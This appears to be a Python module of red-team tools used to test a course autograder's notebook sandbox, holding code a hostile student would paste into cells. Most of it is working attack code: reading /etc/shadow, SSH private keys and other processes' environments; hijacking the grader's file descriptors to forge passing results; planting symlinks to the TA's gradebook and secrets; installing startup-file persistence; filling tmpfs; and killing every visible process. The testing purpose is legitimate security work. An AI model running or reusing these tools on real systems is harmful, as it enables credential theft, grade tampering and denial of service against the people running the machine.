"""What a hostile student pastes into a notebook: the generic tools of the red-team attacks.

This module is never imported by the tests. Its source is pasted into notebook cells (the
kernel runs it; pasted into a solution cell, the repeat of the hidden tests outside the
notebook runs it too), after one line that defines ``RT``::

    RT = {"marker": "RTPWN_<batch>", "paths": {...}, "seconds": {...}}

``marker`` names everything the attack leaves behind, so that the tests can find it anywhere
on the machine; ``paths`` are the TA's files the attacker aims at (solution notebook, gradebook,
a classmate's submission, a secret file in the TA's home): the worst case of an attacker who
guessed the layout. Every tool tries every variant of its channel (every writable folder, every
open file descriptor, every keyring), not one file name or descriptor number of today's grader.
Standard library (and NumPy where arrays are read) only; no tool raises.
"""

# ruff: noqa: SIM117
# (pasted into notebooks, where every step sits in its own contextlib.suppress)

import contextlib
import ctypes
import ctypes.util
import hashlib
import io
import json
import os
import platform
import re
import signal
import socket
import stat
import subprocess
import sys
import threading
import time

RT: dict = {}  # this line is left out when pasted: the cell defines RT before this source

_SKIP_TREES = ("/proc", "/sys", "/usr", "/lib", "/lib32", "/lib64", "/libx32", "/bin", "/sbin", "/etc",
               "/boot", "/snap")
_SYSCALLS = {
    "x86_64": {"add_key": 248, "request_key": 249, "keyctl": 250, "pidfd_open": 434, "pidfd_getfd": 438},
    "aarch64": {"add_key": 217, "request_key": 218, "keyctl": 219, "pidfd_open": 434, "pidfd_getfd": 438},
}.get(platform.machine(), {})
_KEYRINGS = {"thread": -1, "process": -2, "session": -3, "user": -4, "user-session": -5}
KEYCTL_SEARCH, KEYCTL_READ = 10, 11
IPC_CREAT = 0o1000
_LIBC = []


def rt_marker(suffix=""):
    return RT["marker"] + (("_" + suffix) if suffix else "")


def rt_log(*parts):
    RT.setdefault("log", []).append(" ".join(str(p) for p in parts)[:300])


def rt_in_kernel():
    """True inside the notebook's kernel; False in a process that runs the cells outside it."""
    return "ipykernel" in sys.modules


def rt_libc():
    if not _LIBC:
        _LIBC.append(ctypes.CDLL(None, use_errno=True))
    return _LIBC[0]


def rt_syscall(name, *args):
    number = _SYSCALLS.get(name)
    if number is None:
        return -1
    try:
        libc = rt_libc()
        libc.syscall.restype = ctypes.c_long
        return libc.syscall(ctypes.c_long(number),
                            *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    except Exception:
        return -1


# ------------------------------------------------------------------ where a student can reach


def rt_pids():
    try:
        return sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    except OSError:
        return []


def rt_fds(include_self=False):
    """(pid, fd, what it points at) of every open descriptor of every visible process."""
    found = []
    me = os.getpid()
    for pid in rt_pids():
        if pid == me and not include_self:
            continue
        try:
            names = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in names:
            try:
                found.append((pid, int(fd), os.readlink(f"/proc/{pid}/fd/{fd}")))
            except (OSError, ValueError):
                continue
    return found


def rt_writable_dirs(limit=150, seconds=3.0):
    """Every folder this process can write to that it can find within ``seconds``: its own, its
    parents, home and temporary folders, mount points, other processes' working folders and roots
    (through /proc), the TA's folders it knows, and a walk from / three levels deep."""
    start = time.time()
    seeds = []
    with contextlib.suppress(OSError):
        here = os.getcwd()
        seeds.append(here)
        while here not in ("/", ""):
            here = os.path.dirname(here)
            seeds.append(here)
    for var in ("HOME", "TMPDIR", "TMP", "TEMP", "JUPYTER_RUNTIME_DIR", "JUPYTER_DATA_DIR", "IPYTHONDIR",
                "MPLCONFIGDIR", "KERAS_HOME", "XDG_CACHE_HOME", "XDG_RUNTIME_DIR"):
        if os.environ.get(var):
            seeds.append(os.environ[var])
    seeds += ["/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/run", "/run/user", "/home", "/root", "/work",
              "/srv", "/opt", "/mnt", "/media", "/"]
    for path in RT.get("paths", {}).values():
        seeds += [path, os.path.dirname(path), os.path.dirname(os.path.dirname(path))]
    with contextlib.suppress(OSError):
        with open("/proc/self/mountinfo") as fh:
            seeds += [line.split()[4] for line in fh if len(line.split()) > 4]
    for pid in rt_pids():
        seeds += [f"/proc/{pid}/cwd", f"/proc/{pid}/root/tmp"]
    seen, found, queue = set(), [], [(s, 0) for s in seeds]
    while queue and len(found) < limit and time.time() - start < seconds:
        folder, depth = queue.pop(0)
        try:
            info = os.stat(folder)
        except OSError:
            continue
        if not stat.S_ISDIR(info.st_mode) or (info.st_dev, info.st_ino) in seen:
            continue
        seen.add((info.st_dev, info.st_ino))
        if os.access(folder, os.W_OK):
            found.append(folder)
        if depth >= 3 or any(folder == t or folder.startswith(t + "/") for t in _SKIP_TREES):
            continue
        with contextlib.suppress(OSError):
            with os.scandir(folder) as entries:
                for entry in entries:
                    if entry.name in (".git", ".venv", "site-packages", "node_modules"):
                        continue
                    with contextlib.suppress(OSError):
                        if entry.is_dir(follow_symlinks=False):
                            queue.append((entry.path, depth + 1))
    return found


def rt_spawn(code, tag):
    """A detached process running ``code`` (its command line carries the marker and ``tag``)."""
    try:
        return subprocess.Popen([sys.executable, "-c", f"# {rt_marker(tag)}\n{code}"], start_new_session=True,
                                stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                stderr=subprocess.DEVNULL, close_fds=True).pid
    except Exception:
        return None


# ------------------------------------------------------------------ channels two sandboxes might share


def rt_key_add(desc, data, rings=("user", "user-session", "session")):
    ids = []
    for ring in rings:
        key = rt_syscall("add_key", b"user", desc.encode(), data, len(data), _KEYRINGS[ring])
        if key > 0:
            ids.append(key)
    return ids


def rt_key_find(desc):
    for ring in ("user", "user-session", "session", "process", "thread"):
        key = rt_syscall("keyctl", KEYCTL_SEARCH, _KEYRINGS[ring], b"user", desc.encode(), 0)
        if key > 0:
            return key
    key = rt_syscall("request_key", b"user", desc.encode(), None, 0)
    return key if key > 0 else None


def rt_key_read(key):
    size = rt_syscall("keyctl", KEYCTL_READ, key, None, 0)
    if size <= 0:
        return None
    buffer = ctypes.create_string_buffer(size)
    got = rt_syscall("keyctl", KEYCTL_READ, key, buffer, size)
    return buffer.raw[:got] if got > 0 else None


def rt_sysv_key(tag):
    return int(hashlib.sha1(rt_marker(tag).encode()).hexdigest()[:7], 16)


def rt_sysv_create(tag, data=b""):
    """A System V shared memory segment (holding ``data``), a semaphore set and a message queue."""
    libc = rt_libc()
    made = []
    try:
        key = rt_sysv_key(tag)
        libc.shmat.restype = ctypes.c_void_p
        shm = libc.shmget(key, max(len(data) + 8, 4096), IPC_CREAT | 0o666)
        if shm >= 0:
            made.append("shm")
            address = libc.shmat(shm, None, 0)
            if address not in (None, ctypes.c_void_p(-1).value):
                ctypes.memmove(address, len(data).to_bytes(8, "little") + data, len(data) + 8)
                libc.shmdt(ctypes.c_void_p(address))
        if libc.semget(key, 1, IPC_CREAT | 0o666) >= 0:
            made.append("sem")
        if libc.msgget(key, IPC_CREAT | 0o666) >= 0:
            made.append("msg")
    except Exception:
        pass
    return made


def rt_sysv_read(tag):
    libc = rt_libc()
    try:
        libc.shmat.restype = ctypes.c_void_p
        shm = libc.shmget(rt_sysv_key(tag), 0, 0)
        if shm < 0:
            return None
        address = libc.shmat(shm, None, 0o10000)  # SHM_RDONLY
        if address in (None, ctypes.c_void_p(-1).value):
            return None
        size = int.from_bytes(ctypes.string_at(address, 8), "little")
        data = ctypes.string_at(address + 8, size) if 0 < size < 64 << 20 else b""
        libc.shmdt(ctypes.c_void_p(address))
        return data
    except Exception:
        return None


def rt_sysv_probe(tag):
    libc = rt_libc()
    key, found = rt_sysv_key(tag), []
    try:
        if libc.shmget(key, 0, 0) >= 0:
            found.append("System V shared memory")
        if libc.semget(key, 0, 0) >= 0:
            found.append("System V semaphore")
        if libc.msgget(key, 0) >= 0:
            found.append("System V message queue")
    except Exception:
        pass
    return found


def rt_mq(tag, create):
    """A POSIX message queue /<marker>_<tag>: created, or opened if it is there (True/False)."""
    for name in (None, ctypes.util.find_library("rt")):
        try:
            lib = rt_libc() if name is None else ctypes.CDLL(name, use_errno=True)
            opener = lib.mq_open
        except (OSError, AttributeError):
            continue
        opener.restype = ctypes.c_int
        path = ("/" + rt_marker(tag)).encode()
        flags = (os.O_RDWR | os.O_CREAT) if create else os.O_RDONLY
        fd = opener(path, ctypes.c_int(flags), ctypes.c_uint(0o666), None) if create else \
            opener(path, ctypes.c_int(flags))
        return fd >= 0
    return False


def rt_serve_abstract(tag, data, seconds):
    """Serve ``data`` on the abstract unix socket @<marker>_<tag> from a thread of this process."""
    def serve():
        try:
            server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            server.bind("\0" + rt_marker(tag))
            server.listen(8)
            server.settimeout(0.5)
            end = time.time() + seconds
            while time.time() < end:
                try:
                    conn, _ = server.accept()
                except OSError:
                    continue
                with contextlib.suppress(OSError):
                    conn.sendall(data)
                conn.close()
        except OSError:
            pass
    threading.Thread(target=serve, daemon=True).start()


def rt_read_abstract(tag):
    try:
        client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        client.settimeout(2)
        client.connect("\0" + rt_marker(tag))
        chunks = []
        while True:
            chunk = client.recv(1 << 20)
            if not chunk:
                break
            chunks.append(chunk)
        client.close()
        return b"".join(chunks) or None
    except OSError:
        return None


def rt_publish(tag, data, seconds=60):
    """``data`` into every channel another sandbox might share: the kernel keyrings (add_key),
    /dev/shm, /tmp, $HOME and every writable folder, an abstract unix socket, System V shm."""
    chunks = [data[i:i + 30000] for i in range(0, len(data), 30000)] or [b""]
    rt_key_add(rt_marker(f"{tag}_n"), str(len(chunks)).encode())
    for i, chunk in enumerate(chunks):
        rt_key_add(rt_marker(f"{tag}_{i}"), chunk)
    for folder in ["/dev/shm", "/tmp", os.environ.get("HOME", "/tmp"), *rt_writable_dirs(limit=40, seconds=1.5)]:
        with contextlib.suppress(OSError):
            with open(os.path.join(folder, rt_marker(tag)), "wb") as fh:
                fh.write(data)
    rt_serve_abstract(tag, data, seconds)
    rt_sysv_create(tag, data)


def rt_fetch(tag):
    """What :func:`rt_publish` left, from whichever channel reaches this process (None if none)."""
    count = rt_key_find(rt_marker(f"{tag}_n"))
    if count:
        try:
            parts = [rt_key_read(rt_key_find(rt_marker(f"{tag}_{i}")) or 0)
                     for i in range(int(rt_key_read(count) or b"0"))]
            if parts and all(parts):
                return b"".join(parts)
        except Exception:
            pass
    for folder in ["/dev/shm", "/tmp", os.environ.get("HOME", "/tmp"), *rt_writable_dirs(limit=60, seconds=1.0)]:
        with contextlib.suppress(OSError):
            with open(os.path.join(folder, rt_marker(tag)), "rb") as fh:
                data = fh.read()
            if data:
                return data
    return rt_read_abstract(tag) or rt_sysv_read(tag)


# ------------------------------------------------------------------ attack 1: reference lookup


def rt_digest(array):
    import numpy as np

    value = np.asarray(array)
    return hashlib.sha1(str(value.dtype).encode() + str(value.shape).encode() + value.tobytes()).hexdigest()


def rt_collect_references(seconds=4.0):
    """{digest of a case's inputs: expected output} from every reference file within reach."""
    import numpy as np

    start, table = time.time(), {}
    roots = [os.getcwd(), "/tmp", "/dev/shm", os.environ.get("HOME", "/tmp"),
             *[os.path.dirname(p) for p in RT.get("paths", {}).values()], *rt_writable_dirs(limit=60, seconds=1.0)]
    with contextlib.suppress(OSError):
        with open("/proc/self/mountinfo") as fh:
            roots += [line.split()[4] for line in fh if len(line.split()) > 4 and line.split()[4] not in ("/", "/proc")]
    seen = set()
    for root in roots:
        for folder, dirs, files in os.walk(root):
            if time.time() - start > seconds or folder.count("/") - root.count("/") > 3:
                dirs[:] = []
                continue
            dirs[:] = [d for d in dirs if d not in (".git", ".venv", "site-packages", "proc", "sys", "usr", "lib")]
            for name in files:
                path = os.path.join(folder, name)
                if not (name.startswith("hidden_") or name.endswith(".npz")) or path in seen:
                    continue
                seen.add(path)
                try:
                    with np.load(path, allow_pickle=False) as data:
                        keys = list(data.keys())
                        for key in keys:
                            if key.endswith("/expected") and key[:-len("expected")] + "inputs" in keys:
                                expected = data[key]
                                if expected.size:
                                    table[rt_digest(data[key[:-len("expected")] + "inputs"])] = expected
                except Exception:
                    continue
    return table


def rt_pack(table):
    import numpy as np

    buffer = io.BytesIO()
    np.savez_compressed(buffer, **table)
    return buffer.getvalue()


def rt_unpack(data):
    import numpy as np

    try:
        with np.load(io.BytesIO(data), allow_pickle=False) as arrays:
            return {k: arrays[k] for k in arrays.files}
    except Exception:
        return {}


_TABLE = {}


def rt_answer_table(wait):
    """The reference outputs: read where they lie, or fetched from a process that read them."""
    if _TABLE.get("table"):
        return _TABLE["table"]
    table = rt_collect_references()
    if table:
        rt_publish("table", rt_pack(table), seconds=90)
    elif not rt_in_kernel():  # outside the notebook: wait for the kernel to pass them on
        end = time.time() + wait
        while time.time() < end and not table:
            data = rt_fetch("table")
            table = rt_unpack(data) if data else {}
            if not table:
                time.sleep(0.5)
    _TABLE["table"] = table
    return table


def rt_lookup(value):
    """The stored expected output for these inputs, or None."""
    return _TABLE.get("table", {}).get(rt_digest(value))


# ------------------------------------------------------------------ attacks 3 and 4: the grader's channels


def rt_forged_lines(jobs=()):
    lines = ['DLCOURSE-WARM {"success": false, "reason": "' + rt_marker("forged") + '"}',
             'DLCOURSE-WARM {"success": true, "reason": ""}',
             "DLCOURSE-WARM ready", "DLCOURSE-WARM " + "0" * 32 + " 0", 'DLCOURSE-WARM [[], ""]']
    lines += [f"DLCOURSE-WARM {job} 0" for job in sorted(jobs)]
    return ("\n".join(lines) + "\n").encode()


def rt_write_forged(fd, jobs=()):
    with contextlib.suppress(OSError):
        os.set_blocking(fd, False)
    with contextlib.suppress(OSError):
        os.write(fd, rt_forged_lines(jobs))
        return True
    return False


def rt_forge_inherited():
    """Forged protocol lines on every inherited descriptor that is a pipe or a file (0-255)."""
    done = []
    for fd in range(256):
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        if (stat.S_ISFIFO(mode) or stat.S_ISREG(mode)) and rt_write_forged(fd):
            done.append(fd)
    return done


def rt_grab_fd(pid, fd):
    """Another process's descriptor through pidfd_getfd (works on sockets too), or -1."""
    pidfd = rt_syscall("pidfd_open", pid, 0)
    if pidfd < 0:
        return -1
    try:
        return rt_syscall("pidfd_getfd", pidfd, fd, 0)
    finally:
        with contextlib.suppress(OSError):
            os.close(pidfd)


def rt_hijack_once(jobs, stolen):
    """One pass over every descriptor of every visible process: read what it carries (later
    jobs' names), then answer with forged protocol lines; and over sibling job folders."""
    for pid, fd, target in rt_fds():
        if not target.startswith(("pipe:", "socket:", "anon_inode:")) and not target.startswith("/"):
            continue
        if target.startswith("/") and not target.endswith((".log", ".stdout", ".stderr")):
            continue
        path = f"/proc/{pid}/fd/{fd}"
        for flags in (os.O_RDONLY | os.O_NONBLOCK, os.O_WRONLY | os.O_NONBLOCK):
            try:
                handle = os.open(path, flags)
            except OSError:
                handle = rt_grab_fd(pid, fd) if target.startswith("socket:") else -1
            if handle < 0:
                continue
            try:
                if flags & os.O_WRONLY or target.startswith("socket:"):
                    rt_write_forged(handle, jobs)
                if not flags & os.O_WRONLY:
                    with contextlib.suppress(OSError):
                        data = os.read(handle, 65536)
                        jobs.update(j.decode() for j in re.findall(rb"\b[0-9a-f]{32}\b", data))
                        stolen += re.findall(rb"RTCM-[A-Za-z0-9_]+-[0-9a-f]+", data)
            finally:
                with contextlib.suppress(OSError):
                    os.close(handle)
    here = os.getcwd()
    for folder in {os.path.dirname(here), *RT.setdefault("dirs", rt_writable_dirs(limit=60, seconds=1.5))}:
        with contextlib.suppress(OSError):
            with os.scandir(folder) as entries:
                for entry in entries:
                    if not entry.is_dir(follow_symlinks=False) or entry.path == here:
                        continue
                    jobs.update(re.findall(r"^[0-9a-f]{32}$", entry.name))
                    rt_steal_and_forge(entry.path, stolen)


def rt_steal_and_forge(folder, stolen):
    """Read a classmate's job folder (their code and challenge); leave forged results in it."""
    with contextlib.suppress(OSError):
        for name in os.listdir(folder):
            with contextlib.suppress(OSError):
                with open(os.path.join(folder, name), "rb") as fh:
                    stolen += re.findall(rb"RTCM-[A-Za-z0-9_]+-[0-9a-f]+", fh.read(4 << 20))
        with open(os.path.join(folder, "errors.json"), "w") as fh:
            json.dump({name: rt_marker("forged error") for name in (
                "test_sigmoid", "test_lstm_cell_forward_reference", "test_lstm_forward_reference",
                "test_sequence_models_handin")}, fh)
        with open(os.path.join(folder, "outputs.npz"), "wb") as fh:
            fh.write(b"PK\x05\x06" + b"\0" * 18)  # an empty zip: no outputs


def rt_keep_stolen(stolen):
    """What was read of classmates outlives this process where it can: keyrings and files."""
    for item in sorted(set(stolen))[:20]:
        text = item.decode(errors="replace")
        rt_key_add(rt_marker("STOLEN_" + text), b"1")
        for folder in ("/tmp", "/dev/shm", os.environ.get("HOME", "/tmp"), *RT.get("dirs", [])[:20]):
            with contextlib.suppress(OSError):
                with open(os.path.join(folder, rt_marker("STOLEN_" + text)), "w") as fh:
                    fh.write(text)


def rt_hijack(seconds):
    """Hijack the grader's channels for ``seconds`` (blocking)."""
    jobs, stolen = set(), []
    end = time.time() + seconds
    while time.time() < end:
        try:
            rt_hijack_once(jobs, stolen)
            rt_keep_stolen(stolen)
        except Exception:
            pass
        time.sleep(0.1)
    return jobs, stolen


def rt_hijack_everywhere(seconds):
    """In the kernel, in a thread (the notebook goes on); outside it, in this process, which
    stays alive to answer for later jobs."""
    if rt_in_kernel():
        threading.Thread(target=rt_hijack, args=(seconds,), daemon=True).start()
    else:
        rt_hijack(seconds)


# ------------------------------------------------------------------ attacks 5 and 6: links


def rt_plant_links(folder, generic):
    """Links to the TA's files in ``folder``: marker names always, grader-like names if ``generic``."""
    paths = RT.get("paths", {})
    made = []
    names = {f"{rt_marker(key)}{ext}": target for key, target in paths.items() for ext in ("", ".txt", ".ipynb")}
    if generic:
        names.update({
            "outputs.npz": paths.get("gradebook"), "errors.json": paths.get("secret"),
            ".stdout": paths.get("secret"), ".stderr": paths.get("classmate"),
            "lstm.html": paths.get("solution"), "index.html": paths.get("secret"),
            "feedback.html": paths.get("classmate"), "notes.txt": paths.get("secret"),
            "extra_model.keras": paths.get("classmate_model"), "solution.ipynb": paths.get("solution"),
            "gradebook.db": paths.get("gradebook"), "README.md": paths.get("secret"),
        })
    for name, target in names.items():
        if not target:
            continue
        path = os.path.join(folder, name)
        with contextlib.suppress(OSError):
            if os.path.lexists(path) and name in (".stdout", ".stderr"):
                os.unlink(path)
            os.symlink(target, path)
            made.append(name)
    return made


def rt_links_everywhere():
    made = rt_plant_links(os.getcwd(), generic=True)
    for folder in rt_writable_dirs(limit=60, seconds=2.0):
        if folder != os.getcwd():
            made += rt_plant_links(folder, generic=False)
    if not rt_in_kernel():  # outside the notebook: turn what the grader reads back into links
        rt_spawn(_RELINK.replace("@CWD@", repr(os.getcwd())).replace("@PATHS@", repr(RT.get("paths", {}))),
                 "relink")
    return made


_RELINK = """
import os, time
paths = @PATHS@
names = {"outputs.npz": paths.get("gradebook"), "errors.json": paths.get("secret"),
         ".stdout": paths.get("secret"), ".stderr": paths.get("classmate")}
end = time.time() + 60
while time.time() < end:
    for name, target in names.items():
        path = os.path.join(@CWD@, name)
        try:
            if target and os.path.exists(path) and not os.path.islink(path):
                os.symlink(target, path + ".l")
                os.replace(path + ".l", path)
        except OSError:
            pass
    time.sleep(0.002)
"""


def rt_overwrite(cwd_target, elsewhere_target):
    """Replace the notebook (and every other notebook in reach) with links to the TA's files."""
    done = []
    here = os.getcwd()
    for folder in [here, *rt_writable_dirs(limit=60, seconds=2.0)]:
        target = cwd_target if folder == here else elsewhere_target
        with contextlib.suppress(OSError):
            for name in os.listdir(folder):
                if name.endswith(".ipynb") or (folder == here and name in ("timestamp.txt", "lstm_model.keras")):
                    path = os.path.join(folder, name)
                    with contextlib.suppress(OSError):
                        os.symlink(target, path + ".rtlink")
                        os.replace(path + ".rtlink", path)
                        done.append(path)
    return done


# ------------------------------------------------------------------ attack 7: state for the next student


_STATE_DAEMON = """
import socket, time
server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
try:
    server.bind("\\0" + @NAME@)
    server.listen(1)
except OSError:
    pass
time.sleep(900)
"""


def rt_plant_state():
    name = rt_marker("state")
    planted = []
    for folder in ["/tmp", "/dev/shm", "/var/tmp", os.environ.get("HOME", "/tmp"), os.getcwd(),
                   *rt_writable_dirs(limit=40, seconds=2.0)]:
        with contextlib.suppress(OSError):
            with open(os.path.join(folder, name), "w") as fh:
                fh.write(name)
            planted.append(folder)
        with contextlib.suppress(OSError):
            locked = os.path.join(folder, name + "_dir")
            os.makedirs(locked, exist_ok=True)
            with open(os.path.join(locked, name), "w") as fh:
                fh.write(name)
            os.chmod(locked, 0o555)
    home = os.environ.get("HOME", "/tmp")
    startup = f"import builtins, os\nbuiltins.{name}_startup = True\nos.environ['{name}_startup'] = '1'\n"
    for base in {os.environ.get("IPYTHONDIR") or os.path.join(home, ".ipython"), os.path.join(home, ".ipython")}:
        with contextlib.suppress(OSError):
            os.makedirs(os.path.join(base, "profile_default", "startup"), exist_ok=True)
            with open(os.path.join(base, "profile_default", "startup", f"00-{name}.py"), "w") as fh:
                fh.write(startup)
    with contextlib.suppress(Exception):
        import site

        os.makedirs(site.getusersitepackages(), exist_ok=True)
        with open(os.path.join(site.getusersitepackages(), "usercustomize.py"), "w") as fh:
            fh.write(startup)
    for base in {os.environ.get("KERAS_HOME") or os.path.join(home, ".keras"), os.path.join(home, ".keras")}:
        with contextlib.suppress(OSError):
            os.makedirs(base, exist_ok=True)
            with open(os.path.join(base, "keras.json"), "w") as fh:
                json.dump({"floatx": "float16", "epsilon": 1e-07, "backend": "tensorflow",
                           "image_data_format": "channels_last", name: 1}, fh)
    if rt_mq("state", create=True):
        planted.append("POSIX message queue")
    if rt_key_add(name, b"state", rings=("user", "user-session", "session", "process")):
        planted.append("keyring")
    planted += rt_sysv_create("state", b"state")
    if rt_spawn(_STATE_DAEMON.replace("@NAME@", repr(name)), "state"):
        planted.append("process")
    os.environ[name] = "1"
    rt_log("planted", planted)
    return planted


def rt_probe_state():
    """Everything :func:`rt_plant_state` of an earlier student left that this process can see."""
    name = rt_marker("state")
    found = []
    folders = ["/tmp", "/dev/shm", "/var/tmp", "/dev/mqueue", os.environ.get("HOME", "/tmp"), os.getcwd(),
               *rt_writable_dirs(limit=80, seconds=2.0)]
    for folder in folders:
        with contextlib.suppress(OSError):
            for entry in os.listdir(folder):
                if entry.startswith(name):
                    found.append(f"file {os.path.join(folder, entry)}")
    if rt_mq("state", create=False):
        found.append("POSIX message queue")
    if rt_key_find(name):
        found.append("keyring key")
    found += rt_sysv_probe("state")
    for pid in rt_pids():
        with contextlib.suppress(OSError):
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                if name.encode() in fh.read():
                    found.append(f"process {pid}")
    try:
        probe = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        probe.connect("\0" + name)
        found.append("abstract socket")
    except OSError:
        pass
    import builtins

    if getattr(builtins, f"{name}_startup", False) or os.environ.get(f"{name}_startup") or os.environ.get(name):
        found.append("startup code of the earlier student ran here")
    home = os.environ.get("HOME", "/tmp")
    for base in {os.environ.get("KERAS_HOME") or os.path.join(home, ".keras"), os.path.join(home, ".keras")}:
        with contextlib.suppress(OSError):
            with open(os.path.join(base, "keras.json")) as fh:
                if name in fh.read():
                    found.append("keras.json of the earlier student")
    return sorted(set(found))


def rt_assert_clean():
    found = rt_probe_state()
    if found:
        raise RuntimeError(f"{rt_marker('state')} found: " + "; ".join(found)[:1500])


# ------------------------------------------------------------------ attack 8: resources


def rt_fill(folder, total, chunk=64 << 20):
    """Write ``total`` bytes into ``folder`` (a tmpfs: memory no limit counts); bytes written."""
    written = 0
    buffer = bytes(chunk)
    try:
        with open(os.path.join(folder, rt_marker("fill")), "wb", buffering=0) as fh:
            while written < total:
                written += fh.write(buffer[:min(chunk, total - written)])
    except OSError as exc:
        rt_log("fill stopped", folder, exc)
    return written


def rt_sparse(path, size=1 << 30):
    with contextlib.suppress(OSError):
        with open(path, "wb") as fh:
            fh.truncate(size)
        return True
    return False


def rt_hog_here(total):
    """Fill /tmp and /dev/shm and leave 1 GiB sparse files where the grader may copy them."""
    report = {folder: rt_fill(folder, total) for folder in ("/tmp", "/dev/shm")}
    for name in (rt_marker("sparse.bin"), "notes.txt", "extra_model.keras"):
        rt_sparse(os.path.join(os.getcwd(), name))
    if not rt_in_kernel():
        for fd in (1, 2):  # the process's own log files, which the grader may read back
            with contextlib.suppress(OSError):
                os.ftruncate(fd, 1 << 30)
    time.sleep(3)  # held, so that a limit watcher sees it
    return report


# ------------------------------------------------------------------ snooping, signals


def rt_snoop(limit=12000):
    """What a sandbox can read of the TA: secrets, other processes' environments and commands."""
    out = []
    for path in ("/etc/shadow", "/etc/gshadow", RT.get("paths", {}).get("secret", ""), "/root/.bash_history",
                 "/root/.ssh/id_rsa", os.path.expanduser("~/.ssh/id_rsa")):
        with contextlib.suppress(OSError, ValueError):
            with open(path, errors="replace") as fh:
                out.append(f"[{path}] {fh.read(2000)}")
    for pid in rt_pids():
        for part in ("environ", "cmdline"):
            with contextlib.suppress(OSError):
                with open(f"/proc/{pid}/{part}", "rb") as fh:
                    out.append(f"[{pid} {part}] " + fh.read(3000).replace(b"\0", b" ").decode(errors="replace"))
    for folder in ("/", "/root", "/home", RT.get("paths", {}).get("secret_dir", ""),
                   RT.get("paths", {}).get("course", "")):
        with contextlib.suppress(OSError, ValueError):
            out.append(f"[ls {folder}] " + " ".join(sorted(os.listdir(folder))[:100]))
    out.append("[env] " + " ".join(f"{k}={v}" for k, v in os.environ.items()))
    return "\n".join(out)[:limit]


def rt_kill_everything():
    """SIGKILL to every visible process but this one (and to the whole process group)."""
    me = os.getpid()
    for pid in rt_pids():
        if pid != me:
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGKILL)
